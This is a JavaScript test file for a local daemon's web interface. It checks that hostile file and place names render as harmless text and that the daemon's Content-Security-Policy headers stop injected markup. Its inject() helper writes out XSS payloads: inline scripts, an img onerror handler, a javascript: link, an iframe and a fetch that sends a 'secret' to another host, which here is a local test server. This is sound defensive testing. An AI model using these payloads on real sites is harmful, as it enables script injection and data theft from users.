// SPDX-License-Identifier: MIT
/*
 * Names that mean harm, dropped into the inbox of the real daemon and looked at on every page; and
 * what would forbid them to run if they ever were more than text: the headers of the daemon.
 */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, afterEach, before, test } from 'node:test';
import { browserForFile, withPicture } from '../browser.mjs';
import { daemonAt, daemonSkip, testLife } from '../daemon.mjs';
import { bidi, evils, hostileSheets } from '../hostile.mjs';
import { measure } from '../measure.mjs';

const skip = daemonSkip;
const browser = browserForFile();
const life = testLife();
const office = '长河区';
let daemon;
let page;

before(async () => {
  if (skip) return;
  daemon = await daemonAt(life, '2026-09-16T10:00:00+08:00', { args: ['--place', office] });
  for (const [name, text] of hostileSheets()) await daemon.take(name, text);
});
afterEach(async () => { await page?.context().close(); });

/* What a name would have become, had it been taken for markup. */
const made = () => {
  const { hacked } = window;
  const foreign = document.querySelectorAll('img[src="x"], iframe, body style, body script:not([src]), main a[href^="javascript"]');
  return { hacked, foreign: [...foreign].map((element) => element.outerHTML.slice(0, 80)) };
};

async function isHarmless(what) {
  assert.deepEqual(await page.evaluate(made), { hacked: undefined, foreign: [] }, what);
  assert.doesNotMatch(await page.evaluate(() => document.body.textContent), bidi, what);
  assert.deepEqual(page.faults, [], what);
}

/* The beginning of a name, as it is seen where there is not much room. */
const said = (name) => `${name.slice(0, 3)}`;
const readable = Object.values(evils).filter((name) => !bidi.test(name));

const places = { 'the office': office, 'a place named as an image': evils.image, 'a place whose name turns the writing': evils.unclosed };
for (const [what, place] of Object.entries(places)) {
  for (const name of ['overview', 'rates', 'campaign', 'targets']) {
    test(`hostile names of ${what} are text on the page ${name}, within their boxes`, { skip }, async () => {
      page = await browser.open(`${daemon.url}wall/${name}?place=${encodeURIComponent(place)}`);
      await page.waitForTimeout(700);

      await withPicture(page, `hostile ${name} ${what}`, async () => {
        await isHarmless(what);
        assert.deepEqual(await page.evaluate(measure), []);
      });
      const text = await page.locator('.stage').innerText();
      if (place === office || name === 'overview' || name === 'rates') assert.ok(readable.filter((one) => text.includes(said(one))).length > 0, text.slice(0, 200));
    });
  }
}

test('a name that turns the writing does not turn the figure beside it', { skip }, async () => {
  page = await browser.open(`${daemon.url}wall/rates?place=${encodeURIComponent(office)}`);
  const row = page.locator('.rate, .hero', { hasText: '庚未关' }).first();

  assert.match(await row.innerText(), /��庚未关/);
});

for (const [what, width] of [['a PC', 1366], ['a phone', 390]]) {
  test(`hostile files, columns and cells are text in the inbox on ${what}`, { skip }, async () => {
    page = await browser.open(`${daemon.url}inbox`, { width, height: 900, wait: '.file' });
    const { files } = await daemon.json('api/files');
    assert.ok(files.length > Object.keys(evils).length);
    await isHarmless('the list');

    for (const { name } of files.filter((one) => one.state === 'partial')) {
      await page.evaluate((hash) => { location.hash = hash; }, `#${encodeURIComponent(name)}`);
      await page.waitForFunction((start) => {
        const fault = document.querySelector('.fault');
        return fault && fault.offsetParent !== null && document.querySelector('.receipt').textContent.includes(start);
      }, name.replace(/[\u202a-\u202e\u2066-\u2069]/g, '\ufffd').slice(0, 12));

      await withPicture(page, `hostile inbox ${width}`, async () => {
        await isHarmless(name);
        assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), name.slice(0, 30));
      });
    }
  });
}

/* Markup that does get into the page: an attacker who found a hole in it. */
function inject(other) {
  const { body } = document;
  window.broken = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.broken.push(effectiveDirective));
  body.appendChild(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }));
  body.appendChild(Object.assign(document.createElement('script'), { src: `${other}/a.js` }));
  const place = body.appendChild(document.createElement('div'));
  place.innerHTML = `<img src="/none.png" onerror="window.hacked=2"><img src="${other}/a.png"><iframe src="${other}/a.html"></iframe><style>body{opacity:0}</style>`;
  body.appendChild(Object.assign(document.createElement('a'), { href: 'javascript:window.hacked=3' })).click();
  fetch(`${other}/told?secret`).catch(() => undefined);
}

/* Another host, and what it was asked. */
async function otherHost(t) {
  const asked = [];
  const server = createServer((request, response) => { asked.push(request.url); response.end(); });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  t.after(() => new Promise((done) => { server.close(done); server.closeAllConnections(); }));
  return { asked, url: `http://127.0.0.1:${server.address().port}` };
}

const broken = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'img-src', 'frame-src', 'connect-src'];
for (const path of ['wall/overview', 'inbox', 'help']) {
  test(`the daemon's headers forbid a script that got into ${path} to run, and to tell another host`, { skip }, async (t) => {
    const other = await otherHost(t);
    page = await browser.open(`${daemon.url}${path}`, { wait: 'main' });

    await page.evaluate(inject, other.url);
    await page.waitForFunction((wanted) => wanted.every((one) => window.broken.includes(one)), broken, { timeout: 10000 });

    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).opacity), '1');
    assert.deepEqual(other.asked, []);
  });
}

test('it is the headers that forbid it: without them the same script runs and tells', { skip }, async (t) => {
  const other = await otherHost(t);
  page = await browser.open(`${daemon.url}wall/overview`, { bypassCSP: true });

  await page.evaluate(inject, other.url);

  await page.waitForFunction(() => window.hacked >= 1);
  for (const end = Date.now() + 10000; other.asked.length < 2 && Date.now() < end;) await page.waitForTimeout(50);
  assert.ok(other.asked.includes('/told?secret'), other.asked.join(' '));
});
